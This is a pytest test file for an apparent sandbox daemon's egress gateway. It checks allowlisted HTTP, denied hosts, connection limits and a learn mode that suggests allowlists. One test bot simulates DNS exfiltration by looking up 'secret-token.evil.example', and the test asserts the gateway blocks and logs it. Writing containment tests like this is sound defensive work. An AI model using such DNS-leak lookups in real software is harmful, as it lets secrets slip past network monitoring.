"""End to end: a daemon (in a namespace of the test's) runs a bot with an allowlist; the bot's
own HTTP requests, with and without the proxy variables, go through the daemon's gateway; the
denials show in ``clawpen net log`` and as ``egress-denied`` events.

    daemon's ns  h0 45.79.1.1/24 --veth-- o0 45.79.1.2/24  inet ns: DNS 45.79.1.53,
    (gateway ns and the bot's ns are the daemon's own)                www.allowed.test 45.79.1.10:80
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import tempfile
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from gateway_env import FakeDNS, HttpHandler, HttpServer
from helpers import NetnsDaemon, session_uid_base, wait_for

from clawpen.netns import netns_thread_call, socket_in

pytestmark = [pytest.mark.netns, pytest.mark.root, pytest.mark.bwrap]

BOT = r"""
import json, socket, urllib.error, urllib.request
out = {}
def get(url, proxy):
    handlers = [] if proxy else [urllib.request.ProxyHandler({})]
    opener = urllib.request.build_opener(*handlers)
    try:
        return opener.open(url, timeout=8).read().decode()
    except urllib.error.HTTPError as e:
        return f"HTTP {e.code}: {e.read().decode().strip()}"
    except Exception as e:
        return f"error: {e}"
out["proxied"] = get("http://www.allowed.test/p", True)
out["direct"] = get("http://www.allowed.test/d", False)
out["denied"] = get("http://other.test/", True)
try:
    socket.getaddrinfo("secret-token.evil.example", 80)
    out["dns_secret"] = "resolved"
except OSError as e:
    out["dns_secret"] = f"error: {e}"
print(json.dumps(out), flush=True)
"""


def ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True)


class Daemon(NetnsDaemon):
    def __init__(self, home: Path, spec_dir: Path, ns: str) -> None:
        super().__init__(home, spec_dir, ns, session_uid_base())


@pytest.fixture
def world(tmp_path: Path) -> Iterator[tuple[Daemon, FakeDNS]]:
    tag = uuid.uuid4().hex[:6]
    host, inet = f"clawpen-t-{tag}-h", f"clawpen-t-{tag}-i"
    spec_dir = Path(tempfile.mkdtemp(prefix="clawpen-gd-", dir="/tmp"))
    spec_dir.chmod(0o755)
    servers: list[HttpServer] = []
    fds: list[int] = []
    dns: FakeDNS | None = None
    d: Daemon | None = None
    try:
        for ns in (host, inet):
            ip("netns", "add", ns)
            ip("-n", ns, "link", "set", "lo", "up")
        ip("-n", host, "link", "add", "h0", "type", "veth", "peer", "name", "o0", "netns", inet)
        ip("-n", host, "addr", "add", "45.79.1.1/24", "dev", "h0")
        ip("-n", host, "link", "set", "h0", "up")
        ip("-n", host, "route", "add", "default", "via", "45.79.1.2")
        for addr in ("45.79.1.2", "45.79.1.53", "45.79.1.10", "45.79.1.11"):
            ip("-n", inet, "addr", "add", f"{addr}/24", "dev", "o0")
        ip("-n", inet, "link", "set", "o0", "up")
        fd = os.open(f"/run/netns/{inet}", os.O_RDONLY | os.O_CLOEXEC)
        fds.append(fd)
        for addr in ("45.79.1.10", "45.79.1.11"):
            server = netns_thread_call(fd, lambda a=addr: HttpServer((a, 80), HttpHandler))
            threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True).start()
            servers.append(server)
        udp = socket_in(fd, socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("45.79.1.53", 53))
        dns = FakeDNS(udp, zone={"www.allowed.test": ["45.79.1.10"], "other.test": ["45.79.1.11"]})
        d = Daemon(tmp_path / "state", spec_dir, host)
        d.start()
        yield d, dns
    finally:
        if d is not None:
            d.shutdown()
        for server in servers:
            server.shutdown()
            server.server_close()
        if dns is not None:
            dns.close()
        for fd in fds:
            os.close(fd)
        for ns in (host, inet):
            subprocess.run(["ip", "netns", "del", ns], capture_output=True, check=False)
        subprocess.run(["rm", "-rf", str(spec_dir)], check=False)


def test_bot_through_the_daemons_gateway(world: tuple[Daemon, FakeDNS]) -> None:
    d, dns = world
    d.write(
        f"""
        [gateway]
        dns_upstream = ["45.79.1.53"]

        [bots.fetch]
        command = ["/usr/bin/python3", "-c", {json.dumps(BOT)}]
        restart = {{ policy = "no" }}
        network = {{ egress = ["www.allowed.test:80"] }}
        """
    )
    d.cli("up")
    assert wait_for(lambda: d.ps().get("fetch", {}).get("state") in ("exited", "stopped"), 30, interval=0.2)
    logs = d.cli("logs", "fetch").stdout
    lines = [ln[ln.index("{") :] for ln in logs.splitlines() if "{" in ln]
    assert lines, logs
    out = json.loads(lines[-1])
    assert "hello from 45.79.1.10:80 host=www.allowed.test path=/p" in out["proxied"], out
    assert "hello from 45.79.1.10:80 host=www.allowed.test path=/d" in out["direct"], out
    assert out["denied"].startswith("HTTP 403: clawpen gateway: host other.test:80 is not in the egress"), out
    assert out["dns_secret"].startswith("error"), out
    assert "secret-token.evil.example" not in dns.asked and "www.allowed.test" in dns.asked

    rows = [json.loads(line) for line in d.cli("net", "log", "fetch", "--json").stdout.splitlines()]
    kinds = {(r["kind"], r["host"], r["verdict"]) for r in rows}
    assert ("proxy", "www.allowed.test", "allowed") in kinds, rows
    assert ("transparent", "www.allowed.test", "allowed") in kinds, rows
    assert ("proxy", "other.test", "denied") in kinds, rows
    assert ("dns", "secret-token.evil.example", "denied") in kinds, rows
    denied = [
        json.loads(line) for line in d.cli("net", "log", "fetch", "--json", "--denied").stdout.splitlines()
    ]
    assert denied and all(r["verdict"] == "denied" for r in denied)
    text = d.cli("net", "log", "fetch").stdout
    print(text)
    assert "DENY" in text and "ALLOW" in text
    events = d.events("fetch")
    assert any(e["kind"] == "egress-denied" for e in events), events


HOLD = r"""
import json, os, socket, time
gw = os.environ["HTTP_PROXY"].split("//")[1].split(":")[0]
socks = [socket.create_connection((gw, 3128), timeout=5) for _ in range(4)]
time.sleep(0.3)
out = []
for s in socks:
    s.settimeout(0.5)
    try:
        out.append(s.recv(300).decode(errors="replace") or "closed")
    except socket.timeout:
        out.append("held")
    except OSError as e:
        out.append(f"error: {e}")
print(json.dumps(out), flush=True)
"""


def test_network_limits_of_the_spec_hold_at_the_daemons_gateway(world: tuple[Daemon, FakeDNS]) -> None:
    """``network.limits = { connections = 2 }``: the bot's 3rd and 4th concurrent connections are
    refused (429) by the daemon's gateway; a bot with the defaults keeps all 4 (the control)."""
    d, _dns = world
    bot = f'command = ["/usr/bin/python3", "-c", {json.dumps(HOLD)}]\nrestart = {{ policy = "no" }}'
    d.write(
        f"""
        [gateway]
        dns_upstream = ["45.79.1.53"]

        [bots.small]
        {bot}
        network = {{ egress = ["www.allowed.test:80"], limits = {{ connections = 2 }} }}

        [bots.plain]
        {bot}
        network = {{ egress = ["www.allowed.test:80"] }}
        """
    )
    d.cli("up")
    done = ("exited", "stopped")
    assert wait_for(lambda: all(d.ps().get(b, {}).get("state") in done for b in ("small", "plain")), 30, 0.2)
    got = {}
    for name in ("small", "plain"):
        lines = [ln[ln.index("[") :] for ln in d.cli("logs", name).stdout.splitlines() if "[" in ln]
        assert lines, name
        got[name] = json.loads(lines[-1])
    assert got["plain"] == ["held"] * 4, got
    assert got["small"][:2] == ["held"] * 2, got
    for answer in got["small"][2:]:
        assert answer.startswith("HTTP/1.1 429") and "more than 2 open connections" in answer, got


LEARNER = r"""
import urllib.request
for url in ("http://www.allowed.test/a", "http://other.test/b", "http://www.allowed.test/c"):
    print(urllib.request.urlopen(url, timeout=8).read().decode().strip(), flush=True)
"""


def test_learn_mode_bot_and_net_suggest(world: tuple[Daemon, FakeDNS]) -> None:
    """``egress = "learn"``: the bot reaches names in no allowlist (as "open" would), ``ps``
    says it learns and until when, the start is in the state, and ``clawpen net suggest``
    prints the allowlist of what it reached."""
    d, _dns = world
    before = time.time()
    d.write(
        f"""
        [gateway]
        dns_upstream = ["45.79.1.53"]

        [bots.learner]
        command = ["/usr/bin/python3", "-c", {json.dumps(LEARNER)}]
        restart = {{ policy = "no" }}
        network = {{ egress = "learn", learn_for = "1h" }}
        """
    )
    d.cli("up")
    assert wait_for(lambda: d.ps().get("learner", {}).get("state") in ("exited", "stopped"), 30, interval=0.2)
    logs = d.cli("logs", "learner").stdout
    assert "hello from 45.79.1.10:80 host=www.allowed.test" in logs, logs
    assert "hello from 45.79.1.11:80 host=other.test" in logs, logs
    row = d.ps()["learner"]
    assert row["egress_learn"] is True
    assert before + 3600 - 1 <= row["learn_until"] <= time.time() + 3600
    starts = json.loads((d.home / "net-learn.json").read_text())["starts"]
    assert before - 1 <= starts["learner"] <= time.time()
    text = d.cli("net", "suggest", "learner").stdout
    entries = [ln.strip() for ln in text.splitlines() if ln.strip().startswith('"')]
    assert entries == ['"www.allowed.test:80",  # 2 connections', '"other.test:80",        # 1 connection'], (
        text
    )
    out = json.loads(d.cli("net", "suggest", "learner", "--json").stdout)
    assert out["egress"] == ["www.allowed.test:80", "other.test:80"], out
    assert out["entries"][0]["count"] == 2 and out["entries"][0]["hosts"] == ["www.allowed.test"]
